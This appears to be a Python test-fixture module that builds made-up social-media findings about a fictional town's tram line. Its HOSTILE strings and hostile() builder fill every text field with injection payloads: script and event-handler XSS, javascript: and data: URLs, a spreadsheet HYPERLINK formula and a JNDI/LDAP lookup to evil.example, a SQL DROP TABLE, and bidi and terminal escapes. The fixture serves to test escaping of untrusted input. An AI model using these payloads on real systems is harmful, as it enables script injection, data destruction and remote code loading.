"""A made-up collection with made-up people: findings as `hubbub find` makes them, small and large, plain and hostile."""

from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from hubbub.method import InputCount, Method, Moment
from hubbub.posting import PatternCount, PatternFinding, PatternKind, PatternRules, Patterns
from hubbub.records import (
    Article,
    Count,
    Coverage,
    Findings,
    Flow,
    Point,
    Post,
    Prevalence,
    Quotation,
    Rest,
    Shared,
    Side,
    Sides,
    Slice,
    Tally,
    Timeline,
    TopicFinding,
    Topics,
    ViewpointFinding,
    Without,
)
from hubbub.write.base import Account

POINTS = (
    "The new tram line is far too loud at night.",
    "The new tram line is not loud at all, I sleep next to it.",
    "They cut down every tree on Mill Street for this!",
    "My way to work takes eleven minutes now instead of forty.",
    "Nobody asked the shopkeepers before the road was closed for a year.",
    "It finally reaches the hospital; my mother can go there alone.",
)
OTHERS = (
    "Woke up at 5 again. That squeal in the bend is beyond anything.\nWho signed this off?",
    "sooo loud. SO loud 😡",
    "I measured it: 71 dB in my bedroom, window closed.",
    "Honestly it is the best thing that has happened to this town in years.",
    "Les arbres ne reviendront pas, et personne ne s’en soucie.",
)
HOSTILE = (
    '<script>window.__ran=1;alert(1)</script><img src=x onerror="window.__ran=2">',
    "</p></blockquote></style><svg onload=window.__ran=3><style>*{display:none}</style>",
    "[click](javascript:window.__ran=4) <a href='javascript:window.__ran=5'>x</a> ![i](https://evil.example/x.png) https://evil.example",
    "\u202egnorw siht si ,drawkcab\u2069\u2069\u202c and never closed \u202e\u2067 (no turn back)",
    "\x1b[31mred\x1b[0m \x9b2J \x07 bell \x00 nul \ufffe \r return",
    '=HYPERLINK("http://evil.example")\n\'; DROP TABLE posts; -- {{ 7*7 }} {% raw %} ${jndi:ldap://evil.example}',
    "&lt;b&gt; &#x3c;script&#x3e; &amp;lt; \\<b> # not a heading\n---\n1. not a list\n    not code\n\n\n| a | b |\n",
    "Z̸̡̢̛a̵̧̛l̷̢̛g̶̡̛ơ̵̢̨̧̡̢̧̨̧̨̛̛̛̛̛̛̛̛̛ " + "W" * 400 + " מילה ארוכה בעברית ואז English عربي",
)
BEGIN = datetime(2026, 5, 1, 9, 30, tzinfo=UTC)


def count(number: int, of: int) -> Count:
    """A count with a rough interval; `measure` makes the real ones."""
    share = number / of if of else 0.0
    half = 1.96 * (share * (1 - share) / of) ** 0.5 if of else 0.0
    low, high = max(share - half - 0.002, 0.0), min(share + half + 0.004, 1.0)
    return Count(count=number, of=of, share=round(share, 6), low=round(low, 6), high=round(high, 6))


def prevalence(people: int, known: bool = True) -> Prevalence:
    """So many of 310 people, and the other counts in proportion."""
    texts, posts = count(people + people // 5, 412), count(2 * people, 655)
    held = count(people, 310) if known else None
    left = people - people // 10
    without = Without(people=count(left, 301) if known else None, texts=count(left + left // 5, 405), posts=count(2 * left, 630))
    return Prevalence(
        people=held,
        texts=texts,
        posts=posts,
        accounts=people + 9 if known else None,
        nameless=people // 5 if known else texts.count,
        without=without,
    )


def post(number: int, text: str, **changes: object) -> Post:
    """A made-up post."""
    platform = ("x", "youtube", "reddit", "bluesky")[number % 4]
    precision = ("exact", "minute", "day", "estimate", "none")[number % 5]
    plain = Post(
        uid=f"{platform}:{1000 + number}",
        platform=platform,
        url=f"https://{platform}.example/post/{1000 + number}",
        author_key=f"key{number}",
        author_handle=f"madeup_{number}",
        author_name=f"Made-up Person {number}" if number % 2 else None,
        text=text,
        text_origin="text",
        lang="en",
        created_at=None if precision == "none" else BEGIN + timedelta(hours=7 * number),
        created_precision=precision,  # type: ignore[arg-type]
        input_file="posts.csv",
        input_row=number + 1,
        input_sha256="0" * 64,
    )
    return replace(plain, **changes)  # type: ignore[arg-type]


def quote(one: Post, start: int = 0, end: int | None = None, viewpoint: str | None = None) -> Quotation:
    """A quotation of a span of a post; its id is made of uid and span."""
    end = len(one.text) if end is None else end
    return Quotation(
        quotation_id=f"q:{one.uid}:{start}-{end}",
        viewpoint_id=viewpoint,
        uid=one.uid,
        start=start,
        end=end,
        exact=one.text[start:end],
        prefix=one.text[max(start - 32, 0) : start],
        suffix=one.text[end : end + 32],
    )


def points(number: int) -> tuple[Point, ...]:
    """Days with posts."""
    days = (BEGIN + timedelta(days=at) for at in range(number))
    return tuple(
        Point(start=f"{day:%Y-%m-%d}", posts=3 + 97 // (at + 1), texts=2 + 61 // (at + 1), people=2 + 50 // (at + 1))
        for at, day in enumerate(days)
    )


def flow(known: bool = True) -> Flow:
    """Rows that add up."""
    sha = "a" * 64
    return Flow(
        inputs=(
            InputCount(name="x/posts.csv.gz", shape="table", content_sha256=sha, rows=600, posts=540, excluded=52, unreadable=8),
            InputCount(
                name="youtube comments.json",
                shape="youtube_api",
                content_sha256=sha,
                rows=121,
                posts=115,
                excluded=6,
                unreadable=0,
            ),
        ),
        rows=721,
        unreadable=(Tally(name="not_json", count=6), Tally(name="too_few_columns", count=2)),
        excluded=(Tally(name="advertisement", count=40), Tally(name="deleted", count=11), Tally(name="empty", count=7)),
        posts=655,
        copies=tuple(
            Tally(name=name, count=many) for name, many in (("original", 412), ("exact", 120), ("near", 23), ("repost", 100))
        ),
        texts=412,
        people=310 if known else None,
        accounts=390 if known else None,
        posts_without_author=14 if known else 655,
        sentences=1189,
        articles=1,
        recovered=0,
    )


def method(known: bool = True) -> Method:
    """The method of a made-up run."""
    return Method(
        hubbub="0.1.0",
        encoder="potion-base-8M int8",
        encoder_sha256="b" * 64,
        threshold=712_000,
        quality="balanced",
        matcher="minilm",
        matcher_sha256="c" * 64,
        odds=500_000,
        min_people=3,
        unit="people" if known else "texts",
        languages=(),
        authors="handle",
    )


def account(viewpoints: int = 6, known: bool = True, texts: tuple[str, ...] = OTHERS) -> Account:
    """A collection with so many viewpoints; the first two contradict each other."""
    posts, quotations, found = list[Post](), list[Quotation](), list[ViewpointFinding]()
    for number in range(viewpoints):
        made = _viewpoint(number, viewpoints, known, texts)
        found.append(made[0])
        posts += made[1]
        quotations += made[2]
    loose = [post(9000 + at, text) for at, text in enumerate(texts)]
    article = _article()
    quotations += [quote(one) for one in loose] + [_spoken(article)]
    findings = _findings(tuple(found), tuple(quotations), known)
    return Account(findings, {one.uid: one for one in posts + loose}, {article.article_id: article})


def sides(found: tuple[ViewpointFinding, ...], target: str) -> Sides:
    """Sides of a target, with every part of them."""
    favour, against, unstated = (Side(views=(one.viewpoint_id,), prevalence=one.prevalence) for one in found[:3])
    both = Shared(viewpoint_id=found[3].viewpoint_id, favour=count(3, 9), against=count(1, 12), apart=False)
    return Sides(
        target=target, proposed=False, favour=favour, against=against, unstated=unstated, both=count(2, 310), shared=(both,)
    )


def topics(words: tuple[str, ...], known: bool) -> Topics:
    """Two topics: one with other words, one that is named alone."""
    listed = (
        TopicFinding(topic_id="t:1", words=("tram", "night"), prevalence=prevalence(44, known), held=9, quotations=words[:3]),
        TopicFinding(topic_id="t:2", words=(), prevalence=prevalence(1, known), held=0, quotations=words[-1:]),
    )
    return Topics(found=5, prevalence=prevalence(120, known), listed=listed)


def bare() -> Account:
    """Nothing was found, nothing was even read."""
    none = Prevalence(people=None, texts=count(0, 0), posts=count(0, 0), accounts=None, nameless=0, without=None)
    rest = Rest(viewpoints=0, prevalence=none, quotations=())
    nothing = dict.fromkeys(("inputs", "unreadable", "excluded", "copies"), ())
    zero = dict.fromkeys(("rows", "posts", "texts", "posts_without_author", "sentences", "articles", "recovered"), 0)
    empty = Flow(people=None, accounts=None, **nothing, **zero)  # type: ignore[arg-type]
    findings = Findings(
        schema="hubbub/findings/1",
        moment=None,
        method=method(known=False),
        flow=empty,
        viewpoints=(),
        sides=(),
        decisions=(),
        few=rest,
        unassigned=rest,
        topics=Topics(found=0, prevalence=none, listed=()),
        timeline=Timeline(bin="day", points=(), undated=0, precision=()),
        patterns=Patterns(rules=PatternRules(), found=(), posts=0, accounts=0, listed=()),
        coverage=Coverage(first=None, last=None, platforms=(), languages=(), completeness=None),
        quotations=(),
        notes=(),
    )
    return Account(findings, {}, {})


def hostile() -> Account:
    """Every text field holds what strangers might put there."""
    made = account(texts=HOSTILE)
    worst = "\u202e" + "".join(HOSTILE)
    posts: Mapping[str, Post] = {
        uid: replace(
            one, author_handle=worst, author_name=worst, url=f"javascript:window.__ran=6//{uid}", platform=worst, lang=worst
        )
        for uid, one in made.posts.items()
    }
    articles = {
        name: replace(one, title=worst, url="data:text/html,<script>window.__ran=7</script>")
        for name, one in made.articles.items()
    }
    old = made.findings
    tally = (Tally(name=worst, count=3),)
    findings = replace(
        old,
        moment=Moment(title=worst, what=worst, when=worst, targets=(worst,)),
        method=replace(old.method, hubbub=worst, encoder=worst, languages=(worst,)),
        flow=replace(old.flow, unreadable=tally, excluded=tally, inputs=(replace(old.flow.inputs[0], name=worst, shape=worst),)),
        viewpoints=tuple(
            replace(one, target=worst, stance="against", languages=(Slice(name=worst, prevalence=prevalence(3)),))
            for one in old.viewpoints
        ),
        quotations=tuple(replace(one, speaker=worst, cue=worst) if one.article_id else one for one in old.quotations),
        sides=tuple(sides(old.viewpoints, name) for name in HOSTILE),
        notes=HOSTILE,
    )
    return Account(findings, posts, articles)


def _viewpoint(number: int, of: int, known: bool, texts: tuple[str, ...]) -> tuple[ViewpointFinding, list[Post], list[Quotation]]:
    name = f"v{number:04d}"
    point = POINTS[number % len(POINTS)] if texts is OTHERS else texts[number % len(texts)]
    posts = [post(10 * number, f"{point} And that is only the beginning.")]
    posts += [post(10 * number + at, texts[(number + at) % len(texts)]) for at in (1, 2, 3)]
    quotations = [quote(posts[0], 0, len(point), name)] + [quote(one, viewpoint=name) for one in posts[1:]]
    held = prevalence(max(3, 62 - 62 * number // max(of, 12)), known)
    finding = ViewpointFinding(
        viewpoint_id=name,
        key_point=quotations[0].quotation_id,
        kind="position",
        witnesses=number % 3,
        prevalence=held,
        platforms=(Slice(name="x", prevalence=held), Slice(name="reddit", prevalence=held)),
        languages=(Slice(name="en", prevalence=held),),
        timeline=points(3),
        quotations=tuple(one.quotation_id for one in quotations),
        opposite={0: "v0001", 1: "v0000"}.get(number) if of > 1 else None,
    )
    return finding, posts, quotations


def _article() -> Article:
    text = "“We hear the complaints,” said Ida Madeup, who runs the trams. “The bend will be ground.”"
    return Article(
        article_id="a:" + "c" * 64,
        input_file="page.html",
        title="Tram noise divides town",
        url="https://news.example/tram",
        text=text,
    )


def _spoken(article: Article) -> Quotation:
    exact = "We hear the complaints,"
    return Quotation(
        quotation_id="q:a1", start=1, end=1 + len(exact), exact=exact, prefix="“", suffix="” said Ida",
        article_id=article.article_id, speaker="Ida Madeup", cue="said", kind="direct",
    )  # fmt: skip


def _patterns(quoted: tuple[str, ...], uids: tuple[str, ...]) -> Patterns:
    plain = PatternFinding(
        pattern_id="same_text:60:x:1001", kind="same_text", accounts=12, of=None, texts=1, posts=14, seconds=41,
        first="2026-05-03T14:05:09Z", quotations=quoted[:1], shown=uids[:12],
    )  # fmt: skip
    listed = (
        plain,
        replace(plain, pattern_id="same_text:3600:x:1001", accounts=31, posts=31, seconds=3121),
        replace(plain, pattern_id="shared_copies:x:1", kind="shared_copies", accounts=4, texts=5, posts=18, seconds=None),
        replace(plain, pattern_id="young_account", kind="young_account", accounts=3, of=40, texts=5, posts=5, seconds=None),
    )
    kinds: dict[PatternKind, int] = {"same_text": 2, "shared_copies": 25, "young_account": 1}
    found = tuple(PatternCount(kind=kind, count=many) for kind, many in kinds.items())
    return Patterns(rules=PatternRules(), found=found, posts=25, accounts=19, listed=listed)


def _findings(found: tuple[ViewpointFinding, ...], quotations: tuple[Quotation, ...], known: bool) -> Findings:
    loose = tuple(one.quotation_id for one in quotations if one.uid and one.viewpoint_id is None)
    platforms = tuple(
        Slice(name=name, prevalence=prevalence(many, known)) for name, many in (("x", 180), ("youtube", 90), ("reddit", 40))
    )
    languages = tuple(
        Slice(name=name, prevalence=prevalence(many, known)) for name, many in (("en", 290), ("fr", 12), ("und", 8))
    )
    return Findings(
        schema="hubbub/findings/1",
        moment=Moment(
            title="The night tram of Madeup Town",
            what="The city opened its tram line through Mill Street.",
            when="2026-05-03T14:00",
        ),
        method=method(known),
        flow=flow(known),
        viewpoints=found,
        sides=(),
        decisions=(),
        few=Rest(viewpoints=17, prevalence=prevalence(21, known), quotations=loose[:2]),
        unassigned=Rest(viewpoints=0, prevalence=prevalence(96, known), quotations=loose[2:5]),
        topics=topics(loose, known),
        timeline=Timeline(
            bin="day", points=points(16), undated=14, precision=(Tally(name="exact", count=500), Tally(name="none", count=14))
        ),
        patterns=_patterns(loose, tuple(one.uid or "" for one in quotations if one.uid)),
        coverage=Coverage(
            first="2026-05-01T09:30:00Z", last="2026-05-16T22:00:00Z", platforms=platforms, languages=languages, completeness=0.93
        ),
        quotations=quotations,
        notes=("Opposite views were looked for among views in like words only.",),
    )
